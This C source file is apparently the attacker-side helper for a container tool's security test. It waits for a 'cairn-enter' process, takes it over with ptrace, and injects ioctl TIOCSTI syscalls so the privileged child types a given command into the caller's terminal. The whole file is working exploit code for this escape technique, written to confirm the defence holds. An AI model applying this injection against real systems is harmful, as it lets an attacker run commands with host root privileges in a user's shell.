// Attack tool of tests/tests/attacks2.rs (exec_child_cannot_be_ptraced_into_the_callers_terminal_root).
// Container-side (needs --cap-add SYS_PTRACE, root mode): stop cairn-enter's forked child before
// it drops privileges and make *it* (all capabilities, host root) call ioctl(fd, TIOCSTI, c) on
// its fds 1 and 2 - the caller's terminal before the child installs its own stdio - pushing
// argv[2] into the caller's shell.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
static FILE *lg;
static unsigned long find_syscall(int pid, unsigned long rip) {
    errno = 0;
    long w = ptrace(PTRACE_PEEKTEXT, pid, rip - 2, 0);
    if (!errno && (w & 0xffff) == 0x050f) return rip - 2;
    char p[64]; snprintf(p, sizeof p, "/proc/%d/maps", pid);
    FILE *m = fopen(p, "r"); if (!m) return 0; char line[512];
    while (fgets(line, sizeof line, m)) {
        unsigned long a, b; char perm[8];
        if (sscanf(line, "%lx-%lx %7s", &a, &b, perm) != 3 || perm[2] != 'x') continue;
        for (unsigned long x = a; x + 8 < b && x < a + (4 << 20); x += 7) {
            errno = 0; long v = ptrace(PTRACE_PEEKTEXT, pid, x, 0); if (errno) break;
            for (int i = 0; i < 7; i++) if (((v >> (8 * i)) & 0xffff) == 0x050f) { fclose(m); return x + i; }
        }
    }
    fclose(m); return 0;
}
static long inject(int pid, struct user_regs_struct *saved, unsigned long sc, long nr, long a, long b, long c) {
    struct user_regs_struct r = *saved; r.rip = sc; r.rax = nr; r.orig_rax = -1; r.rdi = a; r.rsi = b; r.rdx = c;
    if (ptrace(PTRACE_SETREGS, pid, 0, &r)) return -1000;
    if (ptrace(PTRACE_SINGLESTEP, pid, 0, 0)) return -1001;
    int st; if (waitpid(pid, &st, __WALL) != pid) return -1002;
    ptrace(PTRACE_GETREGS, pid, 0, &r); return r.rax;
}
int main(int argc, char **argv) {
    lg = fopen(argv[1], "a"); setvbuf(lg, NULL, _IOLBF, 0);
    const char *cmd = argv[2]; time_t end = time(NULL) + atoi(argv[3]);
    static char seen[65536];
    while (time(NULL) < end) {
        DIR *d = opendir("/proc"); struct dirent *e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name); if (pid <= 1 || pid >= 65536 || seen[pid] || pid == getpid()) continue;
            char p[64], comm[32] = {0}; snprintf(p, sizeof p, "/proc/%d/comm", pid);
            int f = open(p, O_RDONLY); if (f < 0) continue; read(f, comm, 31); close(f);
            if (strncmp(comm, "cairn-enter", 11)) continue;
            seen[pid] = 1;
            if (ptrace(PTRACE_SEIZE, pid, 0, 0) || ptrace(PTRACE_INTERRUPT, pid, 0, 0)) continue;
            int st; if (waitpid(pid, &st, __WALL) != pid) continue;
            struct user_regs_struct saved; ptrace(PTRACE_GETREGS, pid, 0, &saved);
            unsigned long sc = find_syscall(pid, saved.rip);
            unsigned long buf = (saved.rsp - 4096) & ~7UL;
            int pushed = 0; long rc = 0;
            for (int fd = 1; fd <= 2 && !pushed && sc; fd++) {
                for (const char *c = cmd; *c; c++) {
                    ptrace(PTRACE_POKEDATA, pid, buf, (long)(unsigned char)*c);
                    rc = inject(pid, &saved, sc, 16 /* ioctl */, fd, 0x5412 /* TIOCSTI */, buf);
                    if (rc != 0) break;
                    if (!c[1]) pushed = fd;
                }
            }
            ptrace(PTRACE_SETREGS, pid, 0, &saved);
            fprintf(lg, "CHILD pid=%d syscall_at=%#lx %s rc=%ld\n", pid, sc, pushed ? "TIOCSTI-PUSHED" : "no-tty", rc);
            ptrace(PTRACE_DETACH, pid, 0, 0);
            if (pushed) { fprintf(lg, "DONE pushed\n"); return 0; }
        }
        closedir(d);
    }
    fprintf(lg, "DONE timeout\n"); return 0;
}
